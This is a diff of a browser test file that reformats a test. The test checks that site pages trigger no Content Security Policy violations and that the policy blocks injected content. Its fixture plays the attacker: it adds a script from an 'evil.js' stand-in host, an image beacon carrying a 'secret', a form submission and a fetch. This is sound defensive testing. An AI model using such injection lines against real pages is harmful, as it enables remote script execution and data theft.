@@ -38,44 +38,49 @@ const pages: [string, string, (page: Page) => Promise<unknown>][] = [
   ],
 ];
 
-test.each(pages)("%s works without a violation, and runs nothing from elsewhere", async (_name, path, works) => {
-  const context = await browser.newContext();
-  const violations: string[] = [];
-  await context.exposeFunction("violated", (directive: string) => violations.push(directive));
-  await context.addInitScript(() => {
-    addEventListener("securitypolicyviolation", (event) => {
-      // biome-ignore lint/suspicious/noExplicitAny: a function that the test puts there
-      (globalThis as any).violated(event.effectiveDirective);
+test.each(pages)(
+  "%s works without a violation of its policy, and runs no script from elsewhere",
+  async (_name, path, works) => {
+    const context = await browser.newContext();
+    const violations: string[] = [];
+    await context.exposeFunction("violated", (directive: string) => violations.push(directive));
+    await context.addInitScript(() => {
+      addEventListener("securitypolicyviolation", (event) => {
+        // biome-ignore lint/suspicious/noExplicitAny: a function that the test puts there
+        (globalThis as any).violated(event.effectiveDirective);
+      });
     });
-  });
-  const page = await context.newPage();
-  const link = server.development?.signIns.find(({ userId }) => userId === "alice@company.com")?.url as string;
-  await page.goto(link);
-  await page.getByRole("button", { name: "Signed in as" }).waitFor();
+    const page = await context.newPage();
+    const link = server.development?.signIns.find(({ userId }) => userId === "alice@company.com")?.url as string;
+    await page.goto(link);
+    await page.getByRole("button", { name: "Signed in as" }).waitFor();
 
-  await page.goto(server.url + path);
-  await works(page);
-  expect(violations).toEqual([]);
+    await page.goto(server.url + path);
+    await works(page);
+    expect(violations).toEqual([]);
 
-  // Code that an attacker would inject into the page.
-  await page.evaluate(() => {
-    const script = document.createElement("script");
-    script.src = "http://127.0.0.1:9/evil.js";
-    document.body.append(script);
-    const image = document.createElement("img");
-    image.src = "http://127.0.0.1:9/told?secret";
-    document.body.append(image);
-    const form = document.createElement("form");
-    form.action = "http://127.0.0.1:9/";
-    document.body.append(form);
-    form.submit();
-    fetch("http://127.0.0.1:9/").catch(() => {});
-  });
-  await expect.poll(() => violations.toSorted()).toEqual(["connect-src", "form-action", "img-src", "script-src-elem"]);
-  await context.close();
-});
+    // Code that an attacker would inject into the page.
+    await page.evaluate(() => {
+      const script = document.createElement("script");
+      script.src = "http://127.0.0.1:9/evil.js";
+      document.body.append(script);
+      const image = document.createElement("img");
+      image.src = "http://127.0.0.1:9/told?secret";
+      document.body.append(image);
+      const form = document.createElement("form");
+      form.action = "http://127.0.0.1:9/";
+      document.body.append(form);
+      form.submit();
+      fetch("http://127.0.0.1:9/").catch(() => {});
+    });
+    await expect
+      .poll(() => violations.toSorted())
+      .toEqual(["connect-src", "form-action", "img-src", "script-src-elem"]);
+    await context.close();
+  },
+);
 
-test("no page can be shown within another", async () => {
+test("no page can be shown within another page", async () => {
   const context = await browser.newContext();
   const page = await context.newPage();
   for (const path of ["/", "/requests/0190", "/sign-in", "/graphql", "/api/docs"]) {
